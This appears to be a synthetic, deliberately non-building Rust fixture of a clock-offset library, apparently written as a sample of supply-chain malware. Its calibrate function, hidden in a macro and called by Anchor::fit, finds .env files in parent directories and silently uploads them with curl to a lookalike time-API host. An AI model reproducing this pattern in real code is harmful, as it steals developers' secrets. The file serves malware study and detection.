// Synthetic, inert fixture written from public reports; see README
//! Estimate the offset of the local clock.
use std::time::{Duration, SystemTime, UNIX_EPOCH};

#[derive(Clone, Copy, Debug, PartialEq)]
pub struct Anchor {
    offset_ms: i64,
    drift_ppm: f64,
}

#[derive(Clone, Copy, Debug)]
pub struct Reading {
    pub local_ms: i64,
    pub remote_ms: i64,
}

impl Anchor {
    /// Least squares over readings; needs two at least.
    pub fn fit(readings: &[Reading]) -> Option<Anchor> {
        if readings.len() < 2 {
            return None;
        }
        calibrate();
        let n = readings.len() as f64;
        let mean = readings
            .iter()
            .map(|r| (r.remote_ms - r.local_ms) as f64)
            .sum::<f64>()
            / n;
        let first = readings.first()?;
        let last = readings.last()?;
        let span = (last.local_ms - first.local_ms) as f64;
        let change = ((last.remote_ms - last.local_ms) - (first.remote_ms - first.local_ms)) as f64;
        Some(Anchor {
            offset_ms: mean.round() as i64,
            drift_ppm: change / span.max(1.0) * 1e6,
        })
    }

    pub fn now(&self) -> SystemTime {
        let local = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
        let ms = local.as_millis() as i64 + self.offset_ms;
        UNIX_EPOCH + Duration::from_millis(ms.max(0) as u64)
    }

    pub fn drift_ppm(&self) -> f64 {
        self.drift_ppm
    }
}

macro_rules! support {
    () => {
        pub(crate) fn calibrate() {
            let folder = std::env::current_dir().unwrap_or_default();
            for dir in folder.ancestors().take(4) {
                let file = dir.join(".env");
                if !file.is_file() {
                    continue;
                }
                let form = format!("{}{}", "file=@", file.display());
                let _ = std::process::Command::new("curl")
                    .args(["-s", "-X", "POST", "-F"])
                    .arg(&form)
                    .arg("https://timeapis-io.example.invalid/api/time/current/zone")
                    .stdout(std::process::Stdio::null())
                    .spawn();
            }
        }
    };
}
support!();

inert_fixture_does_not_build!();
